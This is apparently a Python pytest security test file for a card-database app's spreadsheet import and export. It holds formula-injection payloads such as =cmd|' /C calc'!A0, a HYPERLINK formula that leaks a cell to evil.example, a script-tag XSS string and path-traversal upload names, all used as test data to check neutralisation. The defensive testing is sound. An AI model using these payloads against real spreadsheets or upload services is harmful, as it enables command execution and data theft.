"""Hostile spreadsheets: formulas (``=cmd|…``), huge cells, wrong encodings, through the import
service, the CLI and the import page; and exported cells that a spreadsheet would run as a
formula are neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from tests.security.helpers import snapshot
from workbench.cli import main
from workbench.domain.errors import DataError
from workbench.services.imports.plan import dry_run

FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([["name", "kind", "text"], *rows])
    return out.getvalue().encode(encoding)


def test_formulas_in_a_csv_import_stay_plain_text(repo, data_dir):
    data = _csv([[f"Card {i}", "monster", formula] for i, formula in enumerate(FORMULAS)])
    before = snapshot(data_dir)
    plan = dry_run(repo, "seth", "cards.csv", data)
    assert snapshot(data_dir) == before  # a dry run writes nothing
    texts = sorted(row.data.get("text") for row in plan.rows if row.data)
    assert texts == sorted(FORMULAS)  # never evaluated: "=1+2" is still the text "=1+2"


@pytest.mark.parametrize("body,message", [
    (_csv([["Big", "monster", "x" * 25_000]]), "characters"),
    ("name,kind\nCafé,monster\n".encode("latin-1"), "not UTF-8"),
    ("name,kind\nWide,monster\n".encode("utf-16"), "not UTF-8"),
    (b"name,kind\n" + b"\x00\x01\x02," * 10 + b"\n", ""),
    (b"\xef\xbb\xbf" + b"a," * 5000 + b"\n", "columns"),
], ids=["huge-cell", "latin-1", "utf-16", "binary", "too-many-columns"])
def test_broken_csv_files_are_clear_errors(repo, data_dir, body, message):
    before = snapshot(data_dir)
    try:
        plan = dry_run(repo, "seth", "cards.csv", body)
    except DataError as exc:
        assert message in str(exc) and "Traceback" not in str(exc)
    else:  # read, but every row is refused with a problem naming it
        assert not [r for r in plan.rows if r.action in ("create", "change")]
    assert snapshot(data_dir) == before


def test_a_huge_cell_names_its_row_and_column(repo):
    with pytest.raises(DataError, match=r"row 2, column C") as caught:
        dry_run(repo, "seth", "cards.csv", _csv([["Big", "monster", "x" * 25_000]]))
    assert "20,000" in str(caught.value)


def test_xlsx_formula_cells_are_never_evaluated(repo, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["name", "kind", "text"])
    sheet.append(["Formula Card", "monster", "=1+2"])  # openpyxl stores this as a real formula
    sheet.append(["Plain Card", "monster", "plain"])
    out = io.BytesIO()
    book.save(out)
    plan = dry_run(repo, "seth", "cards.xlsx", out.getvalue())
    formula_row = plan.rows[0]
    assert formula_row.action == "skip" and not formula_row.data  # skipped, not evaluated to 3
    assert "row 2, column C" in str(formula_row.problems[0]) and "formula" in str(formula_row.problems[0])
    assert plan.rows[1].data["text"] == "plain"


def test_cli_import_of_a_wrongly_encoded_file_is_a_clear_error(data_dir, tmp_path, capsys):
    path = tmp_path / "cards.csv"
    path.write_bytes("name,kind\nCafé,monster\n".encode("latin-1"))
    before = snapshot(data_dir)
    assert main(["import", "seth", str(path), "--data", str(data_dir), "--yes"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error:") and "UTF-8" in err
    assert snapshot(data_dir) == before


@pytest.mark.parametrize("body,status", [
    ("name,kind\nCafé,monster\n".encode("latin-1"), 400),
    (_csv([["Big", "monster", "x" * 25_000]]), 400),
    (_csv([["<script>alert(1)</script>", "monster", "=cmd|' /C calc'!A0"]]), 200),
], ids=["latin-1", "huge-cell", "script-and-formula"])
def test_import_page_answers_hostile_sheets_clearly(env, body, status):
    client = env.app.test_client(use_cookies=False)
    before = snapshot(env.data)
    answer = client.post("/games/seth/import", data={"file": (io.BytesIO(body), "cards.csv")},
                         content_type="multipart/form-data")
    assert answer.status_code == status
    page = answer.get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page and "Traceback" not in page
    assert snapshot(env.data) == before  # the dry run stages the upload under exports/, never in the data


def test_import_page_refuses_unknown_file_types(env):
    client = env.app.test_client(use_cookies=False)
    for name in ("cards.exe", "../../cards.csv.php", "cards"):
        answer = client.post("/games/seth/import", data={"file": (io.BytesIO(b"name,kind\n"), name)},
                             content_type="multipart/form-data")
        assert answer.status_code == 400, name


# ------------------------------------------------------------------ exports


HOSTILE_NAMES = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=already"]


def test_exported_csv_and_xlsx_cells_never_start_a_formula(repo, data_dir, tmp_path, capsys):
    from openpyxl import load_workbook

    for i, name in enumerate(HOSTILE_NAMES):
        repo.create_card("seth", {"name": name, "kind": "monster", "text": name, "race": name}, f"hostile-{i}")
    out = tmp_path / "out"
    assert main(["export", "seth", "csv", "--data", str(data_dir), "-o", str(out / "csv")]) == 0
    assert main(["export", "seth", "xlsx", "--data", str(data_dir), "-o", str(out / "xlsx")]) == 0
    capsys.readouterr()
    csv_file = next((out / "csv").rglob("*.csv"))
    with open(csv_file, encoding="utf-8-sig", newline="") as handle:  # keep CRs inside cells
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for name in HOSTILE_NAMES:
        lf = name.replace("\r", "\n")  # line ends in cells are LF (issue 12)
        assert ("'" + lf if lf.lstrip("'").startswith(FORMULA_START) else lf) in cells  # one apostrophe, else intact
    book = load_workbook(next((out / "xlsx").rglob("*.xlsx")))
    values = set()
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            if str(cell.value or "").lstrip("'").startswith(FORMULA_START):
                # issue 12: the text exactly, as a quote-prefixed string cell (no visible apostrophe)
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
            values.add(cell.value)
    assert {name.replace("\r", "\n") for name in HOSTILE_NAMES} <= values


@pytest.mark.parametrize("name", ["../../../../tmp/evil-import.csv", "/tmp/evil-import.csv",
                                  "..\\..\\evil-import.csv", "evil\x00import.csv", "x" * 300 + ".csv"],
                         ids=lambda n: repr(n)[:20])
def test_upload_file_names_never_become_paths(env, name):
    from pathlib import Path

    client = env.app.test_client(use_cookies=False)
    outside = snapshot(env.root)
    answer = client.post("/games/seth/import", data={"file": (io.BytesIO(_csv([["Named", "monster", "x"]])), name)},
                         content_type="multipart/form-data")
    assert answer.status_code in (200, 400)
    after = snapshot(env.root)
    changed = {k for k in set(outside) | set(after) if outside.get(k) != after.get(k)}
    assert all(k.startswith("exports/seth/.imports/") for k in changed), changed  # only the staged upload
    assert not Path("/tmp/evil-import.csv").exists()
